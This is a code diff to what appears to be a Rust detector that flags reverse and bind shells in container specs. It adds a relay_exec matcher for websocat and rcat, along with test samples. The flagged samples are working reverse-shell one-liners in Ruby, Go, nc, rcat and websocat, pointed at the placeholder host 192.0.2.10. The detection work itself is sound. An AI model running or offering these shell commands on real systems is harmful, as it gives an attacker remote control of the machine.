@@ -113,6 +113,24 @@ pub(super) static RULES: &[Rule] = &[
                 50,
                 "containers: [{name: a, lifecycle: {postStart: {exec: {command: [sh, -c, 'n\"\"c${IFS}-e /bin/sh 192.0.2.10 1']}}}}]",
             ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [ruby, -rsocket, -e, 'spawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"192.0.2.10\",4444))']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [sh, -c, \"cat > /tmp/t.go <<'E'\\npackage main\\nfunc main(){c,_:=net.Dial(\\\"tcp\\\",\\\"192.0.2.10:1\\\");k:=exec.Command(\\\"/bin/sh\\\");k.Stdin=c;k.Run()}\\nE\\ngo run /tmp/t.go\"]}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [rcat, connect, -s, bash, '192.0.2.10', '55600']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, \"cat > /tmp/t.go <<'E'\\npackage main\\nfunc main(){exec.Command(\\\"make\\\").Run()}\\nE\\ngo run /tmp/t.go\"]}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [ruby, -rjson, -e, 'puts JSON.parse(STDIN.read)']}]",
+            ),
             Sample::Miss(
                 "containers: [{name: a, command: [sh, -c, 'until nc -z db 5432; do sleep 1; done']}]",
             ),
@@ -179,6 +197,11 @@ pub(super) static RULES: &[Rule] = &[
                 "containers: [{name: a, command: [sh, -c, 'rm f; mkfifo f; cat f | sh -i 2>&1 | nc -l -p 4444 > f']}]",
             ),
             Sample::Hit(45, "containers: [{name: a, command: [busybox, telnetd, -p, '23', -l, /bin/sh]}]"),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [websocat, -E, 'ws-l:0.0.0.0:8080', 'cmd:sh -i']}]",
+            ),
+            Sample::Miss("containers: [{name: a, command: [websocat, 'ws-l:0.0.0.0:8080', 'tcp:db:5432']}]"),
             Sample::Miss("containers: [{name: a, command: [sh, -c, 'nc -l -p 8080 > /data/upload']}]"),
             Sample::Miss("containers: [{name: a, command: [socat, 'TCP-LISTEN:80,fork', 'TCP:db:5432']}]"),
         ],
@@ -245,6 +268,9 @@ impl Net {
             return Some(listens(invocation));
         }
         if let Some(listening) = socat_exec(invocation) {
+            return Some(listening);
+        }
+        if let Some(listening) = relay_exec(invocation) {
             return Some(listening);
         }
         if invocation.program == "telnetd" && has(invocation, &["-l"]) {
@@ -351,6 +377,21 @@ fn is_net_pipe(invocation: &Invocation) -> bool {
         "telnet" | "socat" => true,
         "openssl" => has(invocation, &["s_client"]),
         program => is_netcat(program) && !only_probes(invocation),
+    }
+}
+
+/// `websocat URL cmd:sh`, `rcat connect -s sh HOST PORT`, and whether it listens.
+fn relay_exec(invocation: &Invocation) -> Option<bool> {
+    let any =
+        |wanted: &[&str]| words(invocation).any(|word| wanted.iter().any(|start| word.starts_with(start)));
+    match invocation.program.as_str() {
+        "websocat" => {
+            any(&["cmd:", "sh-c:", "exec:"]).then(|| any(&["ws-l:", "tcp-l:", "-s", "--server-mode"]))
+        }
+        "rcat" | "rustcat" => {
+            any(&["-s", "--shell", "-e", "--exec"]).then(|| has(invocation, &["listen", "l", "lp"]))
+        }
+        _ => None,
     }
 }
 
